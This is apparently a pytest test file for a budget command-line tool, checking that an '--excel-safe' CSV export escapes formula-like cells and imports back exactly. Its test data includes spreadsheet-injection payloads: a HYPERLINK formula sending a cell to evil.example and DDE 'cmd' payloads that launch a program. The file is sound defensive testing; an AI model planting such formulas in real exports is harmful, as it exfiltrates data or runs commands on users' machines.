"""`export --excel-safe` and `list --format csv --excel-safe`: no cell a spreadsheet would
run as a formula, and `budget import` reads such a file back exactly. The default CSV
stays an exact copy of the data."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from budgetcli.cli import app
from budgetcli.errors import ExitCode
from budgetcli.models import User
from budgetcli.spreadsheets import excel_safe, marks_excel_safe, undo_excel_safe
from budgetcli.store import Store
from tests.helpers import log_in, spend

# What people could type, and what spreadsheets run (OWASP's examples among them).
DESCRIPTIONS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Receipt OK")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted once",
    "''+twice",
    "'90s music",
    "a normal lunch",
    "",
]
CATEGORIES = ["=cat", "-food", "@home", "+fun", "'quoted"]
FORMULA = re.compile(r"[=+\-@\t\r\x00]")


@given(st.text())
def test_escaping_round_trips_and_leaves_no_formula(cell: str) -> None:
    safe = excel_safe(cell)
    assert undo_excel_safe(safe) == cell
    assert not FORMULA.match(safe)
    if not re.match(r"'*[=+\-@\t\r\x00]", cell):
        assert safe == cell  # text that is no formula is left as it is


@pytest.mark.parametrize(
    "cell, safe",
    [
        ("=1+1", "'=1+1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1+1", "''=1+1"),
        ("'90s", "'90s"),
        ("2026-11-05", "2026-11-05"),
        ("12.50", "12.50"),
    ],
)
def test_escaping_examples(cell: str, safe: str) -> None:
    assert excel_safe(cell) == safe


def test_the_marker_column_is_found_in_any_case() -> None:
    assert marks_excel_safe(["date", "amount", " Excel_Safe "])
    assert not marks_excel_safe(["date", "amount", "category", "description"])


@pytest.fixture
def formulas(store: Store, alice: User) -> list[tuple[str, str]]:
    """alice's expenses: every description with every category."""
    from budgetcli.tables.expenses import to_item

    stored = []
    for n, description in enumerate(DESCRIPTIONS):
        category = CATEGORIES[n % len(CATEGORIES)]
        expense = spend(store, alice, f"{n + 1}.25", category)
        store.put("expenses", to_item(expense) | {"description": description})
        stored.append((category, description))
    return stored


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def expenses_of(runner: CliRunner) -> list[tuple[str, str, str, str]]:
    result = runner.invoke(app, ["export", "--format", "json"])
    assert result.exit_code == 0, result.stderr
    return sorted(
        (e["date"], e["amount"], e["category"], e["description"]) for e in json.loads(result.stdout)
    )


@pytest.mark.parametrize("command", [["export"], ["list", "--month", "2026-11", "-f", "csv"]])
def test_excel_safe_csv_has_no_formula_and_imports_back_exactly(
    store: Store, formulas: Any, bob: User, runner: CliRunner, command: list[str]
) -> None:
    original = expenses_of(runner)
    exported = runner.invoke(app, [*command, "--excel-safe"])
    assert exported.exit_code == 0, exported.stderr
    table = rows(exported.stdout)
    assert list(table[0])[-1] == "excel_safe"
    assert len(table) == len(DESCRIPTIONS)
    for row in table:
        assert not any(FORMULA.match(cell) for cell in row.values()), row
    assert "'" + DESCRIPTIONS[0] in {row["description"] for row in table}
    # Into the same account: every row is already there.
    again = runner.invoke(app, ["import", "-", "--format", "json"], input=exported.stdout)
    assert again.exit_code == 0, again.stderr
    assert '"duplicates": 9' in again.stdout and '"imported": 0' in again.stdout
    # Into another account: the same expenses, to the character.
    log_in(store, "bob")
    imported = runner.invoke(app, ["import", "-"], input=exported.stdout)
    assert imported.exit_code == 0, imported.stderr
    assert expenses_of(runner) == original


def test_the_default_csv_is_the_data_as_it_is(
    store: Store, formulas: Any, runner: CliRunner
) -> None:
    exported = runner.invoke(app, ["export"])
    table = rows(exported.stdout)
    assert "excel_safe" not in table[0]
    assert sorted(row["description"] for row in table) == sorted(DESCRIPTIONS)
    assert {row["category"] for row in table} == set(CATEGORIES)


def test_a_leading_quote_is_kept_in_a_file_without_the_marker(
    store: Store, alice: User, runner: CliRunner
) -> None:
    typed = "date,amount,category,description\n2026-11-05,1.00,food,'=not escaped by us\n"
    assert runner.invoke(app, ["import", "-"], input=typed).exit_code == 0
    (row,) = rows(runner.invoke(app, ["export"]).stdout)
    assert row["description"] == "'=not escaped by us"


def test_excel_safe_json_is_no_choice(runner: CliRunner, no_storage: None) -> None:
    for args in (["export", "--format", "json", "--excel-safe"], ["list", "--excel-safe"]):
        result = runner.invoke(app, args)
        assert result.exit_code == ExitCode.ERROR
        assert result.stderr == "error: --excel-safe applies to --format csv only\n"


def test_excel_safe_changes_only_the_formula_like_cells(
    store: Store, formulas: Any, runner: CliRunner
) -> None:
    plain = rows(runner.invoke(app, ["export"]).stdout)
    safe = rows(runner.invoke(app, ["export", "--excel-safe"]).stdout)
    assert len(plain) == len(safe) == len(DESCRIPTIONS)
    changed = 0
    for before, after in zip(plain, safe, strict=True):
        assert after.pop("excel_safe") == ""
        for name, cell in before.items():
            if re.match(r"'*[=+\-@\t\r\x00]", cell):
                assert after[name] == "'" + cell
                changed += 1
            else:
                assert after[name] == cell, name  # dates, amounts, ids, plain text
    assert changed == 6 + 8  # the formula-like descriptions and categories of `formulas`
